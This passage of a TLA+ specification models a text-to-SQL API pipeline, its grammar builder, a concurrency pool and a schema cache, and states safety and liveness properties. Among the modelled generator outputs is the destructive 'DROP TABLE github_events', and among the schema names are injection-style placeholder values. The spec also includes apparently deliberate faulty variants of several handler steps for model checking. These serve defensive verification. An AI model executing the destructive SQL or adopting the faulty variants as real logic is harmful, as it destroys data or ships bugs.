          /\ pos' = r.pos
          /\ result' = r.node
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, sql, input, children, routeVars>>

NextRules == CallRule

SpecRules == InitRules /\ [][NextRules]_vars

\* ------------------------------------------------------------------------
\* POST /api/query
\* ------------------------------------------------------------------------

MAX_ATTEMPTS == 3

INTENTS == {"ANSWERABLE", "AMBIGUOUS", "IMPOSSIBLE", "OUT_OF_SCOPE"}

\* What generateSQL may hand back: the tool call's input, as the model
\* produced it.
GeneratedSQL ==
  {"SELECT repo_name, count() AS n FROM github_events GROUP BY repo_name LIMIT 10",
   "SELECT id FROM github_events ORDER BY id_count",
   "DROP TABLE github_events"}

CHECKS ==
  {"columns_exist", "group_by_consistency", "has_limit", "date_range_sanity"}

\* Every check but has_limit reporting "error" whatever its verdict.
severityErrorWhenFailed(check, passed) ==
  IF check = "has_limit" THEN "warning" ELSE "error"

\* The severity each check reports with its verdict
severity(check, passed) ==
  IF check = "has_limit" THEN "warning"
  ELSE IF passed THEN "error" ELSE "warning"

\* validateSQL, given the verdict of each of its four checks
validateSQL(passed) ==
  LET errors == {c \in CHECKS : ~passed[c] /\ severity(c, passed[c]) = "error"}
      warnings ==
        {c \in CHECKS : ~passed[c] /\ severity(c, passed[c]) = "warning"}
  IN [valid |-> errors = {}, errors |-> errors, warnings |-> warnings]

\* return NextResponse.json({...})
respond(status, http, s, r, tree, classification) ==
  /\ response' =
       [status |-> status, http |-> http, sql |-> s, rows |-> r,
        grammarDerivation |-> tree, intentClassification |-> classification]
  /\ pc' = "returned"

\* continue, with feedback for the next attempt
retry(kind) ==
  /\ feedback' = [kind |-> kind, sql |-> sql]
  /\ attempt' = attempt + 1
  /\ pc' = "generate"

InitRoute ==
  /\ sql = ""
  /\ input = ""
  /\ pos = 0
  /\ children = <<>>
  /\ pc = "request"
  /\ result = Null
  /\ entry = 0
  /\ RouteIdle
  /\ BuilderIdle
  /\ PoolIdle
  /\ CacheIdle

\* const { query } = body; 400 when it is missing or not a string
ReceiveRequest ==
  /\ pc = "request"
  /\ \E q \in {"", "top repos by pushes"} :
       /\ query' = q
       /\ IF q = ""
          THEN respond("error", 400, "", <<>>, Null, "")
          ELSE pc' = "classify" /\ UNCHANGED response
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result, entry, intent, attempt,
                 feedback, validation, executed, verified, rows>>

\* Step 1 without the early return for AMBIGUOUS.
ClassifyIntentAmbiguousGoesOn ==
  /\ pc = "classify"
  /\ \E c \in INTENTS \cup {"throw"} :
       LET classification == IF c = "throw" THEN "ANSWERABLE" ELSE c
       IN /\ intent' = classification
          /\ CASE classification = "IMPOSSIBLE" ->
                    /\ respond("impossible", 200, "", <<>>, Null, "IMPOSSIBLE")
                    /\ UNCHANGED attempt
               [] classification = "OUT_OF_SCOPE" ->
                    /\ respond("out_of_scope", 200, "", <<>>, Null,
                               "OUT_OF_SCOPE")
                    /\ UNCHANGED attempt
               [] OTHER ->
                    /\ attempt' = 1
                    /\ pc' = "generate"
                    /\ UNCHANGED response
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result,
                 entry, query, feedback, validation, executed, verified, rows>>

\* Step 1: classifyIntent; a throw defaults to ANSWERABLE
ClassifyIntent ==
  /\ pc = "classify"
  /\ \E c \in INTENTS \cup {"throw"} :
       LET classification == IF c = "throw" THEN "ANSWERABLE" ELSE c
       IN /\ intent' = classification
          /\ CASE classification = "AMBIGUOUS" ->
                    /\ respond("clarification_needed", 200, "", <<>>, Null,
                               "AMBIGUOUS")
                    /\ UNCHANGED attempt
               [] classification = "IMPOSSIBLE" ->
                    /\ respond("impossible", 200, "", <<>>, Null, "IMPOSSIBLE")
                    /\ UNCHANGED attempt
               [] classification = "OUT_OF_SCOPE" ->
                    /\ respond("out_of_scope", 200, "", <<>>, Null,
                               "OUT_OF_SCOPE")
                    /\ UNCHANGED attempt
               [] OTHER ->
                    /\ attempt' = 1
                    /\ pc' = "generate"
                    /\ UNCHANGED response
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result, entry, query, feedback,
                 validation, executed, verified, rows>>

\* Step 2: sql = (await generateSQL(query, feedback)).sql
GenerateSQL ==
  /\ pc = "generate"
  /\ generated' = generated + 1
  /\ \/ /\ respond("error", 200, "", <<>>, Null, "")
        /\ UNCHANGED sql
     \/ \E s \in GeneratedSQL :
          /\ sql' = s
          /\ pc' = "validate"
          /\ UNCHANGED response
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, input, pos, children, result, entry, query, intent, attempt,
                 feedback, validation, executed, verified, rows>>

\* Step 3: validation = validateSQL(sql, schema)
ValidateSQL ==
  /\ pc = "validate"
  /\ \E passed \in [CHECKS -> BOOLEAN] :
       /\ validation' = validateSQL(passed)
       /\ IF ~validation'.valid
          THEN IF attempt < MAX_ATTEMPTS
               THEN retry("validation") /\ UNCHANGED response
               ELSE /\ respond("error", 200, sql, <<>>, Null, "")
                    /\ UNCHANGED <<feedback, attempt>>
          ELSE /\ pc' = "execute"
               /\ UNCHANGED <<feedback, attempt, response>>
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result, entry, query, intent,
                 executed, verified, rows>>

\* Step 4 keeping the rows of the first successful execution.
ExecuteQueryKeepsFirstRows ==
  /\ pc = "execute"
  /\ executed' = Append(executed, sql)
  /\ \/ /\ rows' = IF rows = <<>> THEN <<sql>> ELSE rows
        /\ pc' = "adequacy"
        /\ UNCHANGED <<feedback, attempt, response>>
     \/ /\ IF attempt < MAX_ATTEMPTS
           THEN retry("execution") /\ UNCHANGED response
           ELSE /\ respond("error", 200, sql, <<>>, Null, "")
                /\ UNCHANGED <<feedback, attempt>>
        /\ UNCHANGED rows
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result,
                 entry, query, intent, validation, verified>>

\* Step 4: result = await executeQuery(sql)
ExecuteQuery ==
  /\ pc = "execute"
  /\ executed' = Append(executed, sql)
  /\ \/ /\ rows' = <<sql>>
        /\ pc' = "adequacy"
        /\ UNCHANGED <<feedback, attempt, response>>
     \/ /\ IF attempt < MAX_ATTEMPTS
           THEN retry("execution") /\ UNCHANGED response
           ELSE /\ respond("error", 200, sql, <<>>, Null, "")
                /\ UNCHANGED <<feedback, attempt>>
        /\ UNCHANGED rows
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result, entry, query, intent,
                 validation, verified>>

\* Step 4b with the adequacy check made on the final attempt too.
CheckAdequacyOnFinalAttempt ==
  /\ pc = "adequacy"
  /\ \E adequate \in BOOLEAN :
       IF attempt <= MAX_ATTEMPTS /\ ~adequate
       THEN retry("adequacy")
       ELSE pc' = "respond" /\ UNCHANGED <<feedback, attempt>>
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result,
                 entry, query, intent, validation, executed, verified, rows,
                 response>>

\* Step 4b: checkResultAdequacy, skipped on the final attempt; a throw
\* proceeds with the result.
CheckAdequacy ==
  /\ pc = "adequacy"
  /\ \E adequate \in BOOLEAN :
       IF attempt < MAX_ATTEMPTS /\ ~adequate
       THEN retry("adequacy")
       ELSE pc' = "respond" /\ UNCHANGED <<feedback, attempt>>
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, result, entry, query, intent,
                 validation, executed, verified, rows, response>>

\* Steps 5-7: grammarDerivation = parseQuery(sql); answer = await
\* generateAnswer(...); a throw is caught by the outer handler (500).
Respond ==
  /\ pc = "respond"
  /\ result' = parseQuery(sql)
  /\ verified' = verified \cup {sql}
  /\ \/ respond("success", 200, sql, rows, result', "ANSWERABLE")
     \/ respond("error", 500, "", <<>>, Null, "")
  /\ UNCHANGED <<builderVars, poolVars, cacheVars, generated, sql, input, pos, children, entry, query, intent, attempt,
                 feedback, validation, executed, rows>>

NextRoute ==
  \/ ReceiveRequest
  \/ ClassifyIntent
  \/ GenerateSQL
  \/ ValidateSQL
  \/ ExecuteQuery
  \/ CheckAdequacy
  \/ Respond

SpecRoute == InitRoute /\ [][NextRoute]_vars

\* The handler moves on to its next step until it has returned: every await
\* in POST settles. Each step of NextRoute changes pc, and some step is
\* possible exactly while pc is not "returned".
Advance ==
  /\ pc # "returned"
  /\ pc' \in {"classify", "generate", "validate", "execute", "adequacy",
              "respond", "returned"} \ {pc}

SpecRouteFair == SpecRoute /\ WF_pc(Advance)

\* ------------------------------------------------------------------------
\* buildGrammar called with an arbitrary TableSchema
\* ------------------------------------------------------------------------

MaxColumns == 2

TableNames ==
  {"github_events", "{{TABLE_NAME}}", "{{STRING_COLS}}", "{{EVENT_TYPES}}",
   "$&"}

ColumnPool ==
  {col("id", "UInt64", <<>>),
   col("id", "UUID", <<>>),
   col("actor_login", "LowCardinality(String)", <<>>),
   col("created_at", "DateTime", <<>>),
   col("type", "Enum8", <<"PushEvent", "ForkEvent">>),
   col("type", "String", <<>>),
   col("action", "LowCardinality(String)", <<"opened", "merged">>),
   col("payload", "Array(String)", <<>>),
   col("$&", "String", <<>>)}

ColumnLists == UNION {[1..n -> ColumnPool] : n \in 0..MaxColumns}

Schemas ==
  {[tableName |-> t, columns |-> c] : t \in TableNames, c \in ColumnLists}
  \cup {STATIC_SCHEMA}

InitBuilder ==
  /\ tableSchema \in Schemas
  /\ classified = NoColumns
  /\ output = ""
  /\ sql = ""
  /\ input = ""
  /\ pos = 0
  /\ children = <<>>
  /\ pc = "build"
  /\ result = Null
  /\ entry = 0
  /\ RouteIdle
  /\ PoolIdle
  /\ CacheIdle

\* buildGrammar(schema)
BuildGrammar ==
  /\ pc = "build"
  /\ classified' = classifyColumns(tableSchema)
  /\ output' = buildGrammar(tableSchema)
  /\ pc' = "built"
  /\ UNCHANGED <<tableSchema, sql, input, pos, children, result, entry,
                 routeVars, poolVars, cacheVars>>

NextBuilder == BuildGrammar

SpecBuilder == InitBuilder /\ [][NextBuilder]_vars

\* ------------------------------------------------------------------------
\* runConcurrent(tasks, limit) (eval runner)
\* ------------------------------------------------------------------------

MaxTasks == 3

MaxLimit == 3

\* What a task may resolve with.
TaskValues == {"a", "b"}

\* Array.from({ length: n }) with a list of n workers.
workerCountAll(l, n) == n

\* Math.min(limit, tasks.length), the number of workers created
workerCount(l, n) == IF l < n THEN l ELSE n

\* Promise settling as soon as one worker has returned.
anyReturned(ws) == \E k \in DOMAIN ws : ws[k].at = "returned"

\* Promise.all resolves when every worker has returned
allReturned(ws) == \A k \in DOMAIN ws : ws[k].at = "returned"

InitPool ==
  /\ concurrency \in 0..MaxLimit
  /\ \E n \in 0..MaxTasks :
       /\ tasks = [i \in 0..(n - 1) |-> [state |-> "pending", value |-> ""]]
       /\ started = [i \in 0..(n - 1) |-> 0]
       /\ results = [i \in 0..(n - 1) |-> ""]
  /\ nextIdx = 0
  /\ workers = <<>>
  /\ settled = ""
  /\ pc = "pool"
  /\ sql = ""
  /\ input = ""
  /\ pos = 0
  /\ children = <<>>
  /\ result = Null
  /\ entry = 0
  /\ RouteIdle
  /\ BuilderIdle
  /\ CacheIdle

\* The call: every worker is created and runs to its first await, taking
\* the next index and calling its task.
RunConcurrent ==
  /\ pc = "pool"
  /\ LET created(w) ==
           /\ workers' = [k \in 1..w |-> [at |-> "await", i |-> k - 1]]
           /\ nextIdx' = w
           /\ tasks' = [i \in DOMAIN tasks |->
                          IF i < w THEN [state |-> "running", value |-> ""]
                          ELSE tasks[i]]
           /\ started' = [i \in DOMAIN tasks |-> IF i < w THEN 1 ELSE 0]
     IN created(workerCount(concurrency, Cardinality(DOMAIN tasks)))
  /\ settled' = "pending"
  /\ pc' = "running"
  /\ UNCHANGED <<concurrency, results, sql, input, pos, children, result,
                 entry, routeVars, builderVars, cacheVars>>

\* The promise of a running task resolves with a value or rejects.
TaskSettles ==
  /\ pc = "running"
  /\ \E i \in DOMAIN tasks :
       /\ tasks[i].state = "running"
       /\ \/ \E v \in TaskValues :
               tasks' = [tasks EXCEPT ![i] = [state |-> "resolved", value |-> v]]
          \/ tasks' = [tasks EXCEPT ![i] = [state |-> "rejected", value |-> ""]]
  /\ UNCHANGED <<concurrency, started, nextIdx, workers, results, settled, pc,
                 sql, input, pos, children, result, entry, routeVars,
                 builderVars, cacheVars>>

\* A worker goes on after its await: it throws when the task rejected;
\* otherwise it stores the value in results[i], takes the next index and
\* either returns or calls the next task.
WorkerResumes ==
  /\ pc = "running"
  /\ \E k \in DOMAIN workers :
       /\ workers[k].at = "await"
       /\ IF tasks[workers[k].i].state = "rejected"
          THEN /\ workers' = [workers EXCEPT ![k].at = "threw"]
               /\ UNCHANGED <<tasks, started, nextIdx, results>>
          ELSE /\ tasks[workers[k].i].state = "resolved"
               /\ results' = [results EXCEPT ![workers[k].i] =
                                tasks[workers[k].i].value]
               /\ nextIdx' = nextIdx + 1
               /\ IF nextIdx >= Cardinality(DOMAIN tasks)
                  THEN /\ workers' = [workers EXCEPT ![k].at = "returned"]
                       /\ UNCHANGED <<tasks, started>>
                  ELSE /\ workers' = [workers EXCEPT ![k].i = nextIdx]
                       /\ tasks' = [tasks EXCEPT ![nextIdx].state = "running"]
                       /\ started' = [started EXCEPT ![nextIdx] = @ + 1]
  /\ UNCHANGED <<concurrency, settled, pc, sql, input, pos, children, result,
                 entry, routeVars, builderVars, cacheVars>>

\* await Promise.all(...): rejected once a worker has thrown, resolved once
\* all workers have returned; runConcurrent then returns results.
Settle ==
  /\ pc = "running"
  /\ settled = "pending"
  /\ \/ /\ \E k \in DOMAIN workers : workers[k].at = "threw"
        /\ settled' = "rejected"
     \/ /\ allReturned(workers)
        /\ settled' = "resolved"
  /\ UNCHANGED <<concurrency, tasks, started, nextIdx, workers, results, pc,
                 sql, input, pos, children, result, entry, routeVars,
                 builderVars, cacheVars>>

NextPool ==
  \/ RunConcurrent
  \/ TaskSettles
  \/ WorkerResumes
  \/ Settle

SpecPool == InitPool /\ [][NextPool]_vars

\* ------------------------------------------------------------------------
\* cachedSchema, getTableSchema, invalidateSchemaCache (schema introspection)
\* ------------------------------------------------------------------------

MaxCalls == 3

\* The tableName argument of a call; every caller uses the default.
AskedTables == {"github_events", "events"}

\* What system.columns may answer: no row, or rows of { name, type }.
RawColumns ==
  {<<>>,
   <<[name |-> "id", type |-> "UInt64"]>>,
   <<[name |-> "id", type |-> "UInt64"], [name |-> "type", type |-> "String"]>>}

\* rawColumns.map(...): parseEnumValues gives undefined for a type that is
\* not Enum8(...), as are all types of RawColumns.
toColumns(raw) == [k \in DOMAIN raw |-> col(raw[k].name, raw[k].type, <<>>)]

NotCalled ==
  [at |-> "idle", tableName |-> "", cacheAtCall |-> NoSchema,
   returned |-> NoSchema]

InitCache ==
  /\ cachedSchema = NoSchema
  /\ calls = [c \in 1..MaxCalls |-> NotCalled]
  /\ queried = <<>>
  /\ pc = "cache"
  /\ sql = ""
  /\ input = ""
  /\ pos = 0
  /\ children = <<>>
  /\ result = Null
  /\ entry = 0
  /\ RouteIdle
  /\ BuilderIdle
  /\ PoolIdle

\* A call up to its first await: a non-null cachedSchema is returned at
\* once, otherwise the query is sent to ClickHouse.
GetTableSchema ==
  /\ pc = "cache"
  /\ \E c \in DOMAIN calls, t \in AskedTables :
       /\ calls[c].at = "idle"
       /\ IF cachedSchema # NoSchema
          THEN /\ calls' = [calls EXCEPT ![c] =
                              [at |-> "returned", tableName |-> t,
                               cacheAtCall |-> cachedSchema,
                               returned |-> cachedSchema]]
               /\ UNCHANGED queried
          ELSE /\ calls' = [calls EXCEPT ![c] =
                              [at |-> "query", tableName |-> t,
                               cacheAtCall |-> NoSchema,
                               returned |-> NoSchema]]
               /\ queried' = Append(queried, c)
  /\ UNCHANGED <<cachedSchema, pc, sql, input, pos, children, result, entry,
                 routeVars, builderVars, poolVars>>

\* await client.query(...) ends: with a result, or with a throw that the
\* catch turns into the static schema.
QueryReturns ==
  /\ pc = "cache"
  /\ \E c \in DOMAIN calls :
       /\ calls[c].at = "query"
       /\ \/ /\ calls' = [calls EXCEPT ![c].at = "json"]
             /\ UNCHANGED cachedSchema
          \/ /\ cachedSchema' = STATIC_SCHEMA
             /\ calls' = [calls EXCEPT ![c].at = "returned",
                                       ![c].returned = STATIC_SCHEMA]
  /\ UNCHANGED <<queried, pc, sql, input, pos, children, result, entry,
                 routeVars, builderVars, poolVars>>

\* await result.json() ends: no row or a throw give the static schema, rows
\* give { tableName, columns }; the value is assigned to cachedSchema and
\* returned.
JsonReturns ==
  /\ pc = "cache"
  /\ \E c \in DOMAIN calls :
       /\ calls[c].at = "json"
       /\ LET assigned(s) ==
                /\ cachedSchema' = s
                /\ calls' = [calls EXCEPT ![c].at = "returned",
                                          ![c].returned = s]
          IN \/ assigned(STATIC_SCHEMA)
             \/ \E raw \in RawColumns :
                  assigned(IF Len(raw) = 0 THEN STATIC_SCHEMA
                           ELSE [tableName |-> calls[c].tableName,
                                 columns |-> toColumns(raw)])
  /\ UNCHANGED <<queried, pc, sql, input, pos, children, result, entry,
                 routeVars, builderVars, poolVars>>

InvalidateSchemaCache ==
  /\ pc = "cache"
  /\ cachedSchema' = NoSchema
  /\ UNCHANGED <<calls, queried, pc, sql, input, pos, children, result, entry,
                 routeVars, builderVars, poolVars>>

NextCache ==
  \/ GetTableSchema
  \/ QueryReturns
  \/ JsonReturns
  \/ InvalidateSchemaCache

SpecCache == InitCache /\ [][NextCache]_vars

\* ------------------------------------------------------------------------
\* Properties of parseQuery / isValidGrammarSQL
\* ------------------------------------------------------------------------

\* Offsets at which str occurs in s
occurrences(s, str) == {p \in 0..Len(s) : startsWith(s, str, p)}

contains(s, str) == occurrences(s, str) # {}

\* C1: every input isValidGrammarSQL accepts is, after trimming, derivable
\* from the start rule of the grammar buildGrammar emits for the default
\* schema.
AcceptedIsDerivable == accepted => derivable(input)

\* C2: every string derivable from the start rule of the grammar buildGrammar
\* emits for the default schema is accepted by isValidGrammarSQL.
DerivableIsAccepted == (pc = "done" /\ derivable(sql)) => accepted

\* C4: an accepted input begins with "SELECT ", its select list is followed
\* immediately by " FROM github_events", no other " FROM " occurs, it holds
\* neither ';' nor '*', and no string of the safety suite is accepted.
ClosedLanguage ==
  accepted =>
    /\ startsWith(input, "SELECT ", 0)
    /\ startsWith(input, " FROM github_events",
                  Len(result.children[1].matchedText))
    /\ Cardinality(occurrences(input, " FROM ")) = 1
    /\ ~contains(input, ";")
    /\ ~contains(input, "*")
    /\ sql \notin SAFETY_SQL

\* C5: for an accepted sql, padded or not, the root node's matchedText is the
\* trimmed input.
RootTextIsTrimmedInput == accepted => result.matchedText = trim(sql)

NoDoubleSpace == accepted => ~contains(input, "  ")

\* Position of a clause rule in the fixed order of parseQuery
clauseRank(rule) ==
  CASE rule = "select_clause" -> 1
    [] rule = "from_clause" -> 2
    [] rule = "where_clause" -> 3
    [] rule = "group_clause" -> 4
    [] rule = "having_clause" -> 5
    [] rule = "order_clause" -> 6
    [] rule = "limit_clause" -> 7
    [] OTHER -> 0

clauseKeyword(rank) ==
  CASE rank = 3 -> " WHERE "
    [] rank = 4 -> " GROUP BY "
    [] rank = 5 -> " HAVING "
    [] rank = 6 -> " ORDER BY "
    [] rank = 7 -> " LIMIT "

\* C9: the children of a non-null tree are select_clause, from_clause and
\* then optional clauses in the order where, group, having, order, limit,
\* each at most once; an accepted input holds each optional clause keyword
\* at most once, and the keywords it holds appear in that order.
ClauseOrder ==
  (pc = "done" /\ result # Null) =>
    LET kids == result.children
    IN /\ Len(kids) >= 2
       /\ kids[1].rule = "select_clause"
       /\ kids[2].rule = "from_clause"
       /\ \A i \in 1..Len(kids) : clauseRank(kids[i].rule) # 0
       /\ \A i, j \in 1..Len(kids) :
            i < j => clauseRank(kids[i].rule) < clauseRank(kids[j].rule)
       /\ result.rule = "query" =>
            /\ \A r \in 3..7 :
                 Cardinality(occurrences(input, clauseKeyword(r))) <= 1
            /\ \A r1, r2 \in 3..7 :
                 r1 < r2 =>
                   \A p1 \in occurrences(input, clauseKeyword(r1)),
                      p2 \in occurrences(input, clauseKeyword(r2)) : p1 < p2

\* A rejected input that repeats GROUP BY, and whose tree holds it once.
RepeatedClauseReached ==
  /\ pc = "done"
  /\ result # Null
  /\ result.rule = "query (partial)"
  /\ Cardinality(occurrences(input, " GROUP BY ")) = 2
  /\ Len(result.children) = 3
  /\ result.children[3].rule = "group_clause"

\* ------------------------------------------------------------------------
\* Properties of the rule functions
\* ------------------------------------------------------------------------

\* C7: whichever rule function was called, at whichever cursor position, a
\* null return leaves the cursor where it was on entry.
NullLeavesCursor == (pc # "call" /\ result = Null) => pos = entry

\* parseLimitClause returned null after " LIMIT " had matched at the cursor.
LimitFailedAfterKeyword ==
  /\ pc = "parseLimitClause"
  /\ result = Null
  /\ startsWith(input, " LIMIT ", entry)
  /\ pos = entry

\* The longest entry of list that is a prefix of s at p, "" when none is
longestPrefix(list, s, p) ==
  LET hits == {i \in 1..Len(list) : startsWith(s, list[i], p)}
  IN IF hits = {} THEN ""
     ELSE list[CHOOSE i \in hits :
                 \A j \in hits : Len(list[i]) >= Len(list[j])]

matchesLongest(list, rule) ==
  LET best == longestPrefix(list, input, entry)
  IN IF best = "" THEN result = Null
     ELSE /\ result = node(rule, best, <<>>)
          /\ pos = entry + Len(best)

\* C10: parseCompareOp, parseAggFunc, parseColumnRef and parseDateTruncExpr
\* match the longest entry of their list that is a prefix of the remaining
\* input; the compare_op child of a numeric condition and of a HAVING clause
\* is the longest operator at its position, and "uniqExact(" yields agg_func
\* "uniqExact".
LongestMatch ==
  /\ pc = "parseCompareOp" => matchesLongest(COMPARE_OPS, "compare_op")
  /\ pc = "parseAggFunc" => matchesLongest(AGG_FUNCS, "agg_func")
  /\ pc = "parseColumnRef" => matchesLongest(KNOWN_COLUMNS, "column_ref")
  /\ pc = "parseDateTruncExpr" =>
       matchesLongest(DATE_TRUNC_EXPRS, "date_trunc_expr")
  /\ (pc = "parseNumericCondition" /\ result # Null) =>
       LET kids == result.children
       IN /\ kids[2].rule = "compare_op"
          /\ kids[2].matchedText =
               longestPrefix(COMPARE_OPS, input,
                             entry + Len(kids[1].matchedText) + 1)
  /\ (pc = "parseHavingClause" /\ result # Null) =>
       LET kids == result.children
       IN /\ kids[2].rule = "compare_op"
          /\ kids[2].matchedText =
               longestPrefix(COMPARE_OPS, input,
                             entry + 8 + Len(kids[1].matchedText) + 1)
  /\ (pc = "parseAggExpr" /\ startsWith(input, "uniqExact(", entry)) =>
       /\ result # Null
       /\ result.children[1] = node("agg_func", "uniqExact", <<>>)

\* A numeric condition parsed with the two-character operator "!=".
TwoCharOperatorParsed ==
  /\ pc = "parseNumericCondition"
  /\ result # Null
  /\ startsWith(input, "!=", entry + Len(result.children[1].matchedText) + 1)
  /\ result.children[2].matchedText = "!="

\* ------------------------------------------------------------------------
\* Properties of POST /api/query
\* ------------------------------------------------------------------------

\* C3: every string executeQuery was called with had been passed to
\* parseQuery by the pipeline beforehand and is accepted by
\* isValidGrammarSQL.
VerifiedBeforeExecuted ==
  \A i \in 1..Len(executed) :
    /\ executed[i] \in verified
    /\ isValidGrammarSQL(executed[i])

\* ------------------------------------------------------------------------
\* Properties of the derivation tree
\* ------------------------------------------------------------------------

\* A node and every node below it
RECURSIVE descendants(_)
descendants(n) ==
  {n} \cup UNION {descendants(n.children[i]) : i \in 1..Len(n.children)}

isDigits(str) == \A i \in 1..Len(str) : SubSeq(str, i, i) \in Digit

\* C11: in an accepted query every number node holds one to six digits, and
\* no number operand of the input (a digit run after a space: the LIMIT
\* value, the INTERVAL count, the operand of a numeric condition or of
\* HAVING) has seven or more digits.
NumberCap ==
  accepted =>
    /\ \A n \in descendants(result) :
         n.rule = "number" =>
           /\ Len(n.matchedText) \in 1..6
           /\ isDigits(n.matchedText)
    /\ \A p \in occurrences(input, " ") :
         classRun(input, p + 1, Digit, 7) < 7

\* A query with a seven-digit LIMIT value was parsed and rejected, the
\* limit_clause holding the first six digits.
SevenDigitLimitRejected ==
  /\ pc = "done"
  /\ result # Null
  /\ result.rule = "query (partial)"
  /\ \E p \in occurrences(input, " LIMIT ") :
       classRun(input, p + 7, Digit, 7) = 7
  /\ \E i \in 1..Len(result.children) :
       /\ result.children[i].rule = "limit_clause"
       /\ Len(result.children[i].children[1].matchedText) = 6

\* C12: every coverage case, every valid query of the grammar test script
\* (the three queries of the specification are among them) and every
\* pattern query is accepted: parseQuery returns a root with rule "query".
PositiveCoverage == (pc = "done" /\ sql \in PositiveInputs) => accepted

\* ------------------------------------------------------------------------
\* Properties of buildGrammar
\* ------------------------------------------------------------------------

\* C13: whatever the table name, the column names and the enum values of the
\* schema, the string buildGrammar returns contains none of the six
\* placeholder tokens.
NoPlaceholderLeft ==
  pc = "built" =>
    \A i \in 1..Len(TEMPLATE_PLACEHOLDERS) :
      indexOf(output, TEMPLATE_PLACEHOLDERS[i]) < 0

\* The text of the rule `name` in a grammar string: what follows "name: " up to
\* the end of its line ("" when the grammar has no such rule).
ruleBody(g, name) ==
  LET from(i) ==
        IF i < 0 THEN ""
        ELSE LET rest(r) == 
                   LET upTo(e) == IF e < 0 THEN r ELSE SubSeq(r, 1, e)
                   IN upTo(indexOf(r, "\n"))
             IN rest(SubSeq(g, i + Len(name) + 3, Len(g)))
  IN from(indexOf("\n" \o g, "\n" \o name \o ": "))

\* A rule text that begins and ends as a list of quoted alternatives does.
hasAlternative(body) ==
  /\ Len(body) >= 2
  /\ startsWith(body, "\"", 0)
  /\ startsWith(body, "\"", Len(body) - 1)

SCHEMA_RULES ==
  {"string_col", "numeric_col", "column_ref", "event_type", "action_value"}

\* C14: for every schema, also one with no string column, no numeric column,
\* no classifiable column or a `type` column without enum values, each of the
\* five schema-derived rules of the returned grammar has at least one
\* alternative.
EveryRuleHasAnAlternative ==
  pc = "built" =>
    \A r \in SCHEMA_RULES : hasAlternative(ruleBody(output, r))

\* The names classifyColumns put in a bucket, string columns first, then
\* numeric, datetime and enum columns, each name once.
classifiedNames(c) ==
  unique(c.stringCols \o c.numericCols \o c.dateTimeCols
         \o [i \in 1..Len(c.enumCols) |-> c.enumCols[i].name])

\* C15: the column_ref alternatives of the returned grammar are the classified
\* column names in the order string, numeric, datetime, enum, no name twice,
\* and each of them is the name of a column of the schema.
ColumnRefIsClassifiedNames ==
  pc = "built" =>
    /\ ruleBody(output, "column_ref")
         = toLarkAlternatives(classifiedNames(classified))
    /\ hasAlternative(ruleBody(output, "column_ref"))
    /\ \A i \in 1..Len(classifiedNames(classified)) :
         \E j \in 1..Len(tableSchema.columns) :
           tableSchema.columns[j].name = classifiedNames(classified)[i]

\* The enum values of the first column named exactly "type" that has any,
\* otherwise the 16 known event types.
typeEnumValues(columns) ==
  LET withValues ==
        {i \in 1..Len(columns) :
           columns[i].name = "type" /\ Len(columns[i].enumValues) > 0}
      pick(T) ==
        IF T = {} THEN KNOWN_EVENT_TYPES
        ELSE columns[CHOOSE i \in T : \A j \in T : i <= j].enumValues
  IN pick(withValues)

\* C16: the event_type alternatives of the returned grammar are the enum
\* values of the column named exactly `type` when it has enum values and the
\* 16 known event types otherwise; the action_value alternatives are the 9
\* known action values whatever the schema, an `action` column with enum
\* values included.
EnumResolution ==
  pc = "built" =>
    /\ ruleBody(output, "event_type")
         = toLarkAlternatives(typeEnumValues(tableSchema.columns))
    /\ ruleBody(output, "action_value")
         = toLarkAlternatives(KNOWN_ACTION_VALUES)

\* The one bucket a column belongs to: "enum" when it has enum values,
\* otherwise the category of its type string, "none" when it has none.
bucketOf(c) ==
  IF Len(c.enumValues) > 0 THEN "enum"
  ELSE IF isDateTimeType(c.type) THEN "datetime"
  ELSE IF isStringType(c.type) THEN "string"
  ELSE IF isNumericType(c.type) THEN "numeric"
  ELSE "none"

namesIn(columns, bucket) ==
  LET chosen(cs) == [i \in 1..Len(cs) |-> cs[i].name]
  IN chosen(SelectSeq(columns, LAMBDA c : bucketOf(c) = bucket))

\* C17: classifyColumns puts each column in at most one bucket, the enum
\* bucket when it has enum values and otherwise the bucket of its type, and a
\* column with no enum values and a type of no category is in no bucket and
\* its name is in none of the string_col, numeric_col and column_ref
\* alternatives of the returned grammar.
ColumnClassification ==
  pc = "built" =>
    /\ classified.stringCols = namesIn(tableSchema.columns, "string")
    /\ classified.numericCols = namesIn(tableSchema.columns, "numeric")
    /\ classified.dateTimeCols = namesIn(tableSchema.columns, "datetime")
    /\ [i \in 1..Len(classified.enumCols) |-> classified.enumCols[i].name]
         = namesIn(tableSchema.columns, "enum")
    /\ \A j \in 1..Len(tableSchema.columns) :
         bucketOf(tableSchema.columns[j]) = "none" =>
           \A r \in {"string_col", "numeric_col", "column_ref"} :
             indexOf(ruleBody(output, r),
                     "\"" \o tableSchema.columns[j].name \o "\"") < 0

\* ------------------------------------------------------------------------
\* Properties of the retry loop
\* ------------------------------------------------------------------------

\* C18: for one request generateSQL is called at most 3 times and
\* executeQuery at most 3 times, the attempt counter never passes 3, and the
\* request ends with a response, whatever generation, validation, execution
\* and the adequacy check give.
BoundedRetry ==
  /\ [](generated <= 3 /\ Len(executed) <= 3 /\ attempt <= 3)
  /\ <>(pc = "returned" /\ response # NoResponse)

\* A request answered after three generations and three executions.
ThirdAttemptAnswered ==
  /\ pc = "returned"
  /\ response.status = "success"
  /\ attempt = 3
  /\ generated = 3
  /\ Len(executed) = 3

\* ------------------------------------------------------------------------
\* Properties of the conditions of accepted queries
\* ------------------------------------------------------------------------

\* C19: in every accepted query the value of `type = '...'`, each value of
\* `type IN (...)` and the value of `action = '...'` is one of the 16 event
\* types, respectively one of the 9 action values.
EnumValuesRestricted ==
  accepted =>
    \A n \in descendants(result) :
      n.rule = "enum_condition" =>
        \A i \in 1..Len(n.children) :
